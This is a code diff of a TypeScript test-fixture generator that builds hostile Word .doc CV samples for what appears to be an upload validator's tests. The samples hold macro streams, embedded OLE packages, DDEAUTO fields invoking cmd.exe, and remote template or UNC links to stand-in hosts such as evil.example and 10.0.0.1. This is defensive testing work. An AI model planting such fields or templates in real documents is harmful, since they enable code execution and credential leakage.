@@ -2,14 +2,9 @@ import { buildCfb, type CfbPart } from './build-cfb.ts';
 import { buildDoc, type DocOptions, docField, wordClass, wordStreams } from './build-doc.ts';
 import { buildDocx } from './build-docx.ts';
 import { buildPdf } from './build-pdf.ts';
-import { type HostileCv, program } from './hostile-cv.ts';
+import { type HostileCv, heldFiles, program } from './hostile-cv.ts';
 
-const doc = (family: string, options: DocOptions | Buffer, held: HostileCv['held']): HostileCv => ({
-  family: `DOC: ${family}`,
-  name: 'cv.doc',
-  bytes: Buffer.isBuffer(options) ? options : buildDoc(options),
-  held,
-});
+const docs = heldFiles('DOC', 'cv.doc', buildDoc);
 
 const classes = {
   equation: '02ce020000000000c000000000000046',
@@ -35,25 +30,36 @@ function programs(): HostileCv[] {
     { name: 'VBA', children: [{ name: 'dir' }, { name: '_VBA_PROJECT' }, { name: 'ThisDocument' }] },
   ];
   return [
-    doc('macros', { parts: [{ name: 'Macros', children: vba }] }, 'macro'),
-    doc('macros', { parts: [{ name: 'MACROS', children: vba }] }, 'macro'),
-    doc('macros', { parts: [{ name: 'macros', children: [] }] }, 'macro'),
-    doc('macros', { parts: vba }, 'macro'),
-    doc('macros', { parts: [{ name: '_VBA_PROJECT_CUR', children: vba }] }, 'macro'),
-    doc('macros', { parts: [{ name: '_vba_project' }] }, 'macro'),
-    doc('macros', { parts: [{ name: 'PROJECT' }] }, 'macro'),
-    doc('macros', pooled([...wordStreams(), { name: 'Macros', children: vba }], wordClass), 'macro'),
-    doc('macros of Word 6', buildCfb(wordStreams({ version: 0x65, flags: 1 }), wordClass), 'oldFormat'),
-    ...['\\\\10.0.0.1\\share\\x.dotm', 'http://evil.example/x.dotm', 'file://evil/x.dot', '//evil/x.dot'].map(
-      (template) => doc('a template from elsewhere', { template }, 'fetches'),
+    ...docs(
+      'macros',
+      'macro',
+      { parts: [{ name: 'Macros', children: vba }] },
+      { parts: [{ name: 'MACROS', children: vba }] },
+      { parts: [{ name: 'macros', children: [] }] },
+      { parts: vba },
+      { parts: [{ name: '_VBA_PROJECT_CUR', children: vba }] },
+      { parts: [{ name: '_vba_project' }] },
+      { parts: [{ name: 'PROJECT' }] },
+      pooled([...wordStreams(), { name: 'Macros', children: vba }], wordClass),
     ),
-    doc(
+    ...docs('macros of Word 6', 'oldFormat', buildCfb(wordStreams({ version: 0x65, flags: 1 }), wordClass)),
+    ...docs(
       'a template from elsewhere',
-      pooled(wordStreams({ template: '\\\\10.0.0.1\\x.dot' }), classes.wordPicture),
       'fetches',
+      ...[
+        '\\\\10.0.0.1\\share\\x.dotm',
+        'http://evil.example/x.dotm',
+        'file://evil/x.dot',
+        '//evil/x.dot',
+      ].map((template) => ({ template })),
+      pooled(wordStreams({ template: '\\\\10.0.0.1\\x.dot' }), classes.wordPicture),
     ),
-    doc('an unknown stream', { parts: [{ name: 'Unheard', content: program }] }, 'unknownPart'),
-    doc('an unknown stream', { parts: [{ name: 'Unheard', children: [{ name: 'Of' }] }] }, 'unknownPart'),
+    ...docs(
+      'an unknown stream',
+      'unknownPart',
+      { parts: [{ name: 'Unheard', content: program }] },
+      { parts: [{ name: 'Unheard', children: [{ name: 'Of' }] }] },
+    ),
   ];
 }
 
@@ -68,37 +74,20 @@ function objects(): HostileCv[] {
   const book = (type: number, data: number[]) =>
     pooled([{ name: 'Workbook', content: sheet(type, data) }], classes.sheet);
   return [
-    doc(family, pooled([{ name: 'Equation Native' }], classes.equation), 'embeddedObject'),
-    doc(family, pooled([{ name: 'EQUATION NATIVE' }]), 'embeddedObject'),
-    doc(family, pooled([{ name: '\u0001CompObj' }], classes.equation), 'embeddedObject'),
-    doc(family, pooled([{ name: '\u0001Ole', content: linkFlags }]), 'fetches'),
-    doc(family, pooled([{ name: '\u0001OLE', content: linkFlags }, { name: '\u0003LinkInfo' }]), 'fetches'),
-    doc(family, pooled([{ name: '\u0001Ole' }], classes.link), 'embeddedObject'),
-    doc(family, pooled([{ name: '\u0003OCXNAME' }, { name: 'contents' }]), 'control'),
-    doc(family, pooled([{ name: '\u0003OCXDATA' }]), 'control'),
-    doc(family, pooled([{ name: '\u0003ocxName' }]), 'control'),
-    doc(family, pooled([{ name: '\u0001Ole10Native', content: program }], classes.package), 'embeddedObject'),
-    doc(family, pooled([{ name: '\u0001oLE10nATIVE', content: program }]), 'embeddedObject'),
-    doc(family, pooled([{ name: 'Package', content: buildDocx() }]), 'embeddedObject'),
-    doc(family, pooled([{ name: 'CONTENTS', content: program }], classes.flash), 'embeddedObject'),
-    doc(family, pooled([{ name: 'PowerPoint Document' }]), 'embeddedObject'),
-    doc(family, pooled([{ name: 'Unheard' }]), 'embeddedObject'),
-    doc(family, book(0x85, [0, 0, 0, 0, 0, 1, 0, 0]), 'macro'),
-    doc(family, book(0x85, [0, 0, 0, 0, 0, 6, 0, 0]), 'macro'),
-    doc(family, book(0x2f, [0, 0]), 'embeddedObject'),
-    doc(family, book(0x1ae, [1, 0, 9, 0]), 'fetches'),
-    doc(
+    ...docs(
       family,
-      pooled([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', children: [] }], classes.sheet),
-      'macro',
-    ),
-    doc(
-      family,
-      pooled(wordStreams({ text: docField('DDEAUTO c:\\\\cmd.exe') }), classes.wordPicture),
-      'field',
-    ),
-    doc(
-      family,
+      'embeddedObject',
+      pooled([{ name: 'Equation Native' }], classes.equation),
+      pooled([{ name: 'EQUATION NATIVE' }]),
+      pooled([{ name: '\u0001CompObj' }], classes.equation),
+      pooled([{ name: '\u0001Ole' }], classes.link),
+      pooled([{ name: '\u0001Ole10Native', content: program }], classes.package),
+      pooled([{ name: '\u0001oLE10nATIVE', content: program }]),
+      pooled([{ name: 'Package', content: buildDocx() }]),
+      pooled([{ name: 'CONTENTS', content: program }], classes.flash),
+      pooled([{ name: 'PowerPoint Document' }]),
+      pooled([{ name: 'Unheard' }]),
+      book(0x2f, [0, 0]),
       pooled(
         [
           ...wordStreams(),
@@ -106,11 +95,40 @@ function objects(): HostileCv[] {
         ],
         wordClass,
       ),
-      'embeddedObject',
     ),
-    doc(family, { parts: [{ name: '\u0001Ole10Native', content: program }] }, 'unknownPart'),
-    doc(family, { parts: [{ name: 'Equation Native' }] }, 'unknownPart'),
-    doc(family, { parts: [{ name: '\u0003OCXNAME' }] }, 'control'),
+    ...docs(
+      family,
+      'fetches',
+      pooled([{ name: '\u0001Ole', content: linkFlags }]),
+      pooled([{ name: '\u0001OLE', content: linkFlags }, { name: '\u0003LinkInfo' }]),
+      book(0x1ae, [1, 0, 9, 0]),
+    ),
+    ...docs(
+      family,
+      'control',
+      pooled([{ name: '\u0003OCXNAME' }, { name: 'contents' }]),
+      pooled([{ name: '\u0003OCXDATA' }]),
+      pooled([{ name: '\u0003ocxName' }]),
+      { parts: [{ name: '\u0003OCXNAME' }] },
+    ),
+    ...docs(
+      family,
+      'macro',
+      book(0x85, [0, 0, 0, 0, 0, 1, 0, 0]),
+      book(0x85, [0, 0, 0, 0, 0, 6, 0, 0]),
+      pooled([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', children: [] }], classes.sheet),
+    ),
+    ...docs(
+      family,
+      'field',
+      pooled(wordStreams({ text: docField('DDEAUTO c:\\\\cmd.exe') }), classes.wordPicture),
+    ),
+    ...docs(
+      family,
+      'unknownPart',
+      { parts: [{ name: '\u0001Ole10Native', content: program }] },
+      { parts: [{ name: 'Equation Native' }] },
+    ),
   ];
 }
 
@@ -131,22 +149,26 @@ function fields(): HostileCv[] {
     docField('SOMETHINGNEW'),
   ];
   return [
-    ...texts.map((text) => doc(family, { text }, 'field')),
-    ...texts.slice(0, 5).map((text) => doc(family, { text: `السيرة ${text}`, wide: true }, 'field')),
-    ...['\x14', '\x15', 'PAGE\x14'].map((unlisted) => {
+    ...docs(
+      family,
+      'field',
+      ...texts.map((text) => ({ text })),
+      ...texts.slice(0, 5).map((text) => ({ text: `السيرة ${text}`, wide: true })),
+      { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9 },
+      { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9, wide: true },
+      buildCfb(wordStreams({ version: 0x65, text: docField('DDEAUTO c:\\\\cmd.exe') }), wordClass),
+    ),
+    ...['\x14', '\x15', 'PAGE\x14'].flatMap((unlisted) => {
       const text = `\x13${unlisted}DDEAUTO c:\\\\cmd.exe\x14x\x15\r`;
       const separator = text.lastIndexOf('\x14');
-      return doc(family, { text, listed: [0, separator, separator + 2] }, 'field');
+      return docs(family, 'field', { text, listed: [0, separator, separator + 2] });
     }),
-    doc(family, { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9 }, 'field'),
-    doc(family, { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9, wide: true }, 'field'),
-    doc(family, { text: docField('CONTROL Forms.HTML') }, 'control'),
-    doc(family, { text: docField('HYPERLINK "file://10.0.0.1/x"') }, 'oddLink'),
-    doc(family, { text: docField('HYPERLINK "\\\\\\\\10.0.0.1\\\\x"') }, 'oddLink'),
-    doc(
+    ...docs(family, 'control', { text: docField('CONTROL Forms.HTML') }),
+    ...docs(
       family,
-      buildCfb(wordStreams({ version: 0x65, text: docField('DDEAUTO c:\\\\cmd.exe') }), wordClass),
-      'field',
+      'oddLink',
+      { text: docField('HYPERLINK "file://10.0.0.1/x"') },
+      { text: docField('HYPERLINK "\\\\\\\\10.0.0.1\\\\x"') },
     ),
   ];
 }
@@ -160,31 +182,33 @@ function crooked(): HostileCv[] {
   const otherLimit = buildDoc();
   otherLimit.writeUInt32LE(8192, 56);
   return [
-    doc(family, plain.subarray(0, plain.length / 2), 'damaged'),
-    doc(family, plain.subarray(0, 8), 'damaged'),
-    doc(family, buildCfb([{ name: 'WordDocument' }], wordClass), 'damaged'),
-    // Word 95 to us, Word 97 to LibreOffice, which then reads another text.
-    ...[0x6a, 0x80, 0xbf].map((version) =>
-      doc(family, buildCfb(wordStreams({ version }), wordClass), 'oldFormat'),
-    ),
-    doc(family, buildCfb(wordStreams({ version: 0x68, withTable: true }), wordClass), 'oldFormat'),
-    doc(family, buildCfb(wordStreams().slice(0, 1), wordClass), 'damaged'),
-    doc(family, noText, 'damaged'),
-    doc(family, otherLimit, 'damaged'),
-    doc(family, { parts: [{ name: '1TABLE', content: program }] }, 'hidden'),
-    doc(family, Buffer.concat([plain, buildDocx()]), 'mixed'),
-    doc(family, Buffer.concat([plain, program]), 'mixed'),
-    doc(
+    ...docs(
       family,
-      Buffer.concat([plain.subarray(0, 512), Buffer.from('%PDF-1.7\n'), plain.subarray(521)]),
       'damaged',
+      plain.subarray(0, plain.length / 2),
+      plain.subarray(0, 8),
+      buildCfb([{ name: 'WordDocument' }], wordClass),
+      buildCfb(wordStreams().slice(0, 1), wordClass),
+      noText,
+      otherLimit,
+      Buffer.concat([plain.subarray(0, 512), Buffer.from('%PDF-1.7\n'), plain.subarray(521)]),
     ),
-    { ...doc(family, plain, 'otherType'), name: 'cv.docx' },
-    { ...doc(family, plain, 'otherType'), name: 'cv.pdf' },
-    doc(family, buildPdf(), 'otherType'),
-    doc(family, Buffer.from('{\\rtf1\\ansi{\\object\\objocx\\objupdate}}'), 'oldFormat'),
-    doc(family, Buffer.from('{\\rt1 x}'), 'oldFormat'),
-    doc(family, Buffer.concat([Buffer.from([0xdb, 0xa5, 0x2d, 0]), Buffer.alloc(500)]), 'oldFormat'),
+    ...docs(
+      family,
+      'oldFormat',
+      // Word 95 to us, Word 97 to LibreOffice, which then reads another text.
+      ...[0x6a, 0x80, 0xbf].map((version) => buildCfb(wordStreams({ version }), wordClass)),
+      buildCfb(wordStreams({ version: 0x68, withTable: true }), wordClass),
+      Buffer.from('{\\rtf1\\ansi{\\object\\objocx\\objupdate}}'),
+      Buffer.from('{\\rt1 x}'),
+      Buffer.concat([Buffer.from([0xdb, 0xa5, 0x2d, 0]), Buffer.alloc(500)]),
+    ),
+    ...docs(family, 'hidden', { parts: [{ name: '1TABLE', content: program }] }),
+    ...docs(family, 'mixed', Buffer.concat([plain, buildDocx()]), Buffer.concat([plain, program])),
+    ...['cv.docx', 'cv.pdf'].flatMap((name) =>
+      docs(family, 'otherType', plain).map((cv) => ({ ...cv, name })),
+    ),
+    ...docs(family, 'otherType', buildPdf()),
   ];
 }
 
